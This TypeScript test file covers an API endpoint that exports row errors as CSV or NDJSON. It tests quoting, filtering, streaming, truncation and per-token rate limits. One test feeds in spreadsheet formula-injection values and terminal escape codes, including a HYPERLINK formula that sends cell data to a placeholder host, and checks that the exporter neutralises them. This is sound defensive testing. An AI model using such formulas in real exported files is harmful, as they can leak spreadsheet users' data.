// Exports of a run's row errors: exactly what was asked for, inert in a spreadsheet, streamed, and whole or cut.
import http from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import type { StoredSync } from '../../../db/configuration/sync-store';
import { closeGroups, type RowErrorOverrides, someRowErrors } from '../../factories/a-row-error';
import { aRun, type MadeRun } from '../../factories/a-run';
import { aSync } from '../../factories/a-sync';
import { type RunningApi, startApi } from '../running-api';

let api: RunningApi;

beforeAll(async () => {
  api = await startApi();
});
afterAll(() => api.stop());

const ownSync = (): Promise<StoredSync> => aSync(api.knex, { workspaceId: api.workspaceId });
const pathOf = (run: MadeRun, query: string) =>
  `/api/v1/syncs/${run.syncId}/runs/${run.id}/errors/export?${query}`;
const auth = () => ({ Authorization: `Bearer ${api.token}` });
const exported = (run: MadeRun, query: string) => fetch(api.url + pathOf(run, query), { headers: auth() });

async function anEndedRun(errors: readonly RowErrorOverrides[]): Promise<MadeRun> {
  const run = await aRun(api.knex, { sync: await ownSync() });
  await someRowErrors(api.knex, run, errors);
  await closeGroups(api.knex, run);
  return run;
}

test('CSV has a line of names, RFC 4180 quotes, and nothing a spreadsheet or a terminal would act on', async () => {
  const run = await anEndedRun([
    { rowId: 'usr_123' },
    { rowId: 'a,b', message: 'Says "no"\nand more', rawValue: null },
    { rowId: '=1+1', field: '+x', message: '-2', rawValue: '@SUM(A1)', code: '\tTAB' },
    { rowId: '', field: null, message: '<b>\u001b[31mred\u009b0m', rawValue: '\rCR' },
    { rowId: "'quoted", message: '1-2=-1', rawValue: '=HYPERLINK("http://x.invalid?"&A1,"é😀")' },
  ]);
  const answer = await exported(run, 'format=csv');
  expect(answer.status).toBe(200);
  expect(Object.fromEntries(answer.headers)).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': `attachment; filename="row-errors-${run.id}.csv"`,
    'x-total-errors': '5',
  });
  const lines = [
    'row_id,field,message,raw_value,code,origin,operation',
    'usr_123,Email,Invalid email format,not-an-email,INVALID_EMAIL_ADDRESS,destination,update',
    '"a,b",Email,"Says ""no""\nand more",,INVALID_EMAIL_ADDRESS,destination,update',
    "'=1+1,'+x,'-2,'@SUM(A1),'\tTAB,destination,update",
    '"",,<b>\ufffd[31mred\ufffd0m,"\'\rCR",INVALID_EMAIL_ADDRESS,destination,update',
    `'quoted,Email,1-2=-1,"'=HYPERLINK(""http://x.invalid?""&A1,""é😀"")",INVALID_EMAIL_ADDRESS,destination,update`,
  ];
  expect(await answer.text()).toBe(lines.map((line) => `${line}\r\n`).join(''));
});

test('NDJSON has the objects of the list, long values whole', async () => {
  const run = await anEndedRun([{ rowId: null }, { message: 'Two\nlines', rawValue: 'é'.repeat(50_000) }]);
  const answer = await exported(run, 'format=ndjson');
  expect(answer.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
  expect(answer.headers.get('content-disposition')).toContain('.ndjson"');
  const text = await answer.text();
  expect(text.endsWith('}\n')).toBe(true);
  const [first, second, ...others] = text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as object);
  expect(others).toEqual([]);
  const list = await api.get(pathOf(run, '').replace('/export?', ''));
  expect(first).toEqual(list.body.data[0]);
  expect(second).toEqual({ ...list.body.data[1], raw_value: 'é'.repeat(50_000) });
});

test('an export has all that match, past the end of a page, and no more', async () => {
  const errors = Array.from({ length: 12_345 }, (_, n) => ({
    rowId: `usr_${n}`,
    message: `usr_${n} is not known`,
    field: n < 11_000 ? 'Email' : 'Phone',
  }));
  const run = await anEndedRun(errors);
  for (const [query, isMatch] of [
    ['', () => true],
    ['&field=Phone', ({ field }: (typeof errors)[number]) => field === 'Phone'],
    ['&q=9%20is', ({ message }: (typeof errors)[number]) => message.includes('9 is')],
    ['&field=Fax', () => false],
  ] as const) {
    const answer = await exported(run, `format=csv${query}`);
    const expected = errors.filter(isMatch).map(({ rowId }) => rowId);
    expect(answer.headers.get('x-total-errors')).toBe(String(expected.length));
    const lines = (await answer.text()).split('\r\n').slice(1, -1);
    expect(lines.map((line) => line.split(',')[0])).toEqual(expected);
  }
});

test('while a run goes on there is no export of it', async () => {
  const run = await aRun(api.knex, { sync: await ownSync(), status: 'running' });
  const answer = await exported(run, 'format=csv');
  expect([answer.status, await answer.json()]).toMatchObject([409, { code: 'run_not_finished' }]);
  expect((await exported(run, 'format=xlsx')).status).toBe(400);
});

test('an export that cannot be whole is cut off, not ended', async () => {
  const run = await anEndedRun([{}, {}]);
  await api.knex('row_error_groups').where({ run_id: run.id }).increment('row_count', 1);
  // Cut off before its headers or after them: in no case is it whole.
  await expect(exported(run, 'format=csv').then((answer) => answer.text())).rejects.toThrow(
    /terminated|fetch failed/,
  );
  expect(api.logged()).toContain(`2 of 3 row errors of ${run.id} were exported`);
});

describe('sixty megabytes', () => {
  let run: MadeRun;
  const pages: string[] = [];
  const hear = ({ sql }: { sql: string }): void => void (sql.includes('bytes_before') && pages.push(sql));
  beforeAll(async () => {
    // The same value throughout would be small in the database, and as large on its way.
    run = await anEndedRun(
      Array.from({ length: 6_000 }, (_, n) => ({ rowId: `usr_${n}`, rawValue: 'x'.repeat(10_000) })),
    );
    api.knex.on('query', hear);
  });
  afterAll(() => api.knex.removeListener('query', hear));
  beforeEach(() => (pages.length = 0));

  test('are read in pages of some megabytes', async () => {
    const text = await (await exported(run, 'format=ndjson')).text();
    expect(text.length).toBeGreaterThan(60_000_000);
    expect(pages.length).toBeGreaterThanOrEqual(15);
  });

  test('are not read on for a client that does not take them, or has gone away', async () => {
    const already = api.logged().length;
    const response = await new Promise<http.IncomingMessage>((resolve, reject) => {
      http.get(api.url + pathOf(run, 'format=ndjson'), { headers: auth() }, resolve).on('error', reject);
    });
    // Nothing is taken: what fits into sockets and buffers is some megabytes.
    const read = await steady(() => pages.length);
    expect(read).toBeLessThan(10);
    response.destroy();
    while (!api.logged().slice(already).includes('an answer could not be sent')) await sleep(5);
    expect(await steady(() => pages.length)).toBeLessThanOrEqual(read + 1);
  });
});

/** A number that others change, once some requests have come and gone without a change of it. */
async function steady(current: () => number): Promise<number> {
  for (let before = -1; ;) {
    for (let request = 0; request < 20; request += 1) await api.get('/api/v1/syncs');
    if (current() === before) return before;
    before = current();
  }
}

test('a token has four exports going on at once; one that ends in any way makes room', async () => {
  const run = await anEndedRun(
    Array.from({ length: 300 }, (_, n) => ({ rowId: `row_${n}`, rawValue: 'é'.repeat(50_000) })),
  );
  // None of them is read: 30 MB do not fit between here and there.
  const open = await Promise.all(
    Array.from({ length: 4 }, async () => {
      const reader = new AbortController();
      const headers = { ...auth(), 'Accept-Encoding': 'identity' };
      const answer = await fetch(api.url + pathOf(run, 'format=ndjson'), { headers, signal: reader.signal });
      return { reader, status: answer.status };
    }),
  );
  expect(open.map(({ status }) => status)).toEqual([200, 200, 200, 200]);
  const fifth = await exported(run, 'format=csv&row_id=row_1');
  expect(fifth.status).toBe(429);
  expect(await fifth.json()).toMatchObject({
    code: 'too_many_requests',
    detail: 'This token has 4 exports going on, as many as it may.',
  });
  for (const { reader } of open) reader.abort();
  const until = async (status: number): Promise<void> => {
    const answer = await exported(run, 'format=csv&row_id=row_1');
    await answer.text();
    if (answer.status === status) return;
    await sleep(20);
    await until(status);
  };
  await until(200);
  // Read to their end, or asked for without a body, they leave nothing taken.
  for (let count = 0; count < 6; count += 1) {
    expect(
      (await exported(run, 'format=csv&row_id=row_1').then((answer) => answer.text())).length,
    ).toBeGreaterThan(0);
    const head = await fetch(api.url + pathOf(run, 'format=csv'), { method: 'HEAD', headers: auth() });
    expect(head.status).toBe(200);
  }
  await until(200);
});
